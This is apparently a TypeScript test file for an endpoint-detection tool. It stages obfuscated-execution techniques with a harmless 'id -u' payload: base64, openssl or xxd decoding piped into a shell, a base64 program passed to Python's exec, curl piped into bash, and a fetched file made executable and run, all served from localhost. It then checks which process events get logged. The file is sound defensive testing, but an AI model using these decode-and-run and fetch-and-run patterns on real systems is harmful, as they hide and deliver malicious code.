import type { Attack } from "../harness/attack/attack.ts";
import { hashOf } from "../harness/attack/compare.ts";
import { describeAttacks } from "../harness/attack/describe.ts";
import { has, orAbsent } from "../harness/attack/field.ts";

/* Code that reaches an interpreter by a pipe, an argument or a download. */

const python = "/usr/bin/python3";
const payload = "id -u; exit 0\n";
const encoded = Buffer.from(payload).toString("base64");

const attacks: readonly Attack[] = [
  {
    title: "base64 -d into sh",
    rule: "a decoder and a shell of one parent, within a moment",
    run: async (scene) => {
      await scene.shell(`echo ${encoded} | base64 -d | sh`);
      const parent = { "process.parent.args": new RegExp(`${encoded} \\| base64 -d`), "process.parent.name": /sh$/ };
      return [
        {
          of: { "process.name": "base64" },
          fields: { "process.args": ["base64", "-d"], ...parent },
          context: { "mayfly.executable.package.name": orAbsent("coreutils") },
        },
        {
          of: { "process.args": ["sh"] },
          fields: { "process.args_count": 1, ...parent },
          siblingOf: { "process.name": "base64" },
        },
        { of: { "process.name": "id" }, fields: { "process.parent.args": ["sh"], "process.parent.args_count": 1 } },
      ];
    },
  },
  {
    title: "openssl as a decoder in front of bash",
    rule: "openssl that decodes base64",
    needs: ["openssl"],
    run: async (scene) => {
      await scene.shell(`echo ${encoded} | openssl enc -base64 -d -A | bash`);
      return [
        { of: { "process.name": "openssl" }, fields: { "process.args": has("enc", "-d", "-base64") } },
        {
          of: { "process.args": ["bash"] },
          fields: { "process.parent.command_line": /openssl enc -base64 -d/ },
          siblingOf: { "process.name": "openssl" },
        },
      ];
    },
  },
  {
    title: "xxd as a decoder in front of sh",
    rule: "a hexadecimal decoder whose output a shell reads",
    needs: ["xxd"],
    run: async (scene) => {
      await scene.shell(`echo ${Buffer.from(payload).toString("hex")} | xxd -r -p | sh`);
      return [
        { of: { "process.name": "xxd" }, fields: { "process.args": ["xxd", "-r", "-p"] } },
        { of: { "process.args": ["sh"] }, fields: { "process.parent.command_line": /xxd -r -p \| sh/ } },
      ];
    },
  },
  {
    title: "an encoded program as an argument of python",
    rule: "an interpreter that decodes and executes what stands in its own command line",
    needs: [python],
    run: async (scene) => {
      const body = Buffer.from("import os; os.system('id -u; exit 0')").toString("base64");
      const code = `import base64; exec(base64.b64decode("${body}"))`;
      await scene.run(python, ["-Ic", code]);
      return [
        {
          of: { "process.name": /^python3/ },
          fields: { "process.args": has(code), "process.command_line": /base64\.b64decode/ },
        },
        {
          of: { "process.args": ["sh", "-c", "id -u; exit 0"] },
          fields: { "process.parent.name": /^python3/, "process.parent.args": has(code) },
        },
      ];
    },
  },
  {
    title: "a script that perl reads from a pipe",
    rule: "an interpreter without a script in its arguments, with children",
    needs: ["perl"],
    run: async (scene) => {
      await scene.shell(`echo 'system("id"); exit 0' | perl`);
      return [
        { of: { "process.name": "perl" }, fields: { "process.args": ["perl"], "process.args_count": 1 } },
        { of: { "process.name": "id" }, fields: { "process.parent.name": "perl", "process.parent.args_count": 1 } },
      ];
    },
  },
  {
    title: "curl into bash",
    rule: "a download and a shell of one parent",
    needs: ["curl"],
    run: async (scene) => {
      const port = await scene.serve(payload);
      await scene.shell(`curl -fsS http://127.0.0.1:${port}/install.sh | bash`);
      const parent = { "process.parent.command_line": /curl -fsS .*\| bash/ };
      return [
        {
          of: { "process.name": "curl" },
          fields: { "process.args": ["curl", "-fsS", `http://127.0.0.1:${port}/install.sh`], ...parent },
          context: { "mayfly.executable.package.name": orAbsent("curl") },
          end: { "process.exit_code": 0 },
        },
        { of: { "process.args": ["bash"] }, fields: parent, siblingOf: { "process.name": "curl" } },
        { of: { "process.name": "id" }, fields: { "process.parent.args": ["bash"] } },
      ];
    },
  },
  {
    title: "a file that is fetched, made executable and run",
    rule: "curl -o, chmod and the file itself, from a world-writable folder, of one parent",
    needs: ["curl"],
    run: async (scene) => {
      const port = await scene.serve("#!/bin/sh\nid -u\nexit 0\n");
      await scene.shell(`curl -s -o ./agent http://127.0.0.1:${port}/agent && chmod +x ./agent && ./agent --quiet`);
      return [
        { of: { "process.name": "curl" }, fields: { "process.args": has("-o", "./agent") } },
        {
          of: { "process.name": "chmod" },
          fields: { "process.args": ["chmod", "+x", "./agent"] },
          siblingOf: { "process.name": "curl" },
        },
        {
          of: { "process.args": ["/bin/sh", "./agent", "--quiet"] },
          fields: {
            "process.name": /sh$/,
            "mayfly.script.path": scene.path("agent"),
            "process.parent.command_line": /chmod \+x/,
          },
          context: { "mayfly.script.hash.sha256": hashOf(scene.path("agent")) },
          siblingOf: { "process.name": "chmod" },
        },
      ];
    },
  },
];

describeAttacks("code that is decoded or fetched", attacks);
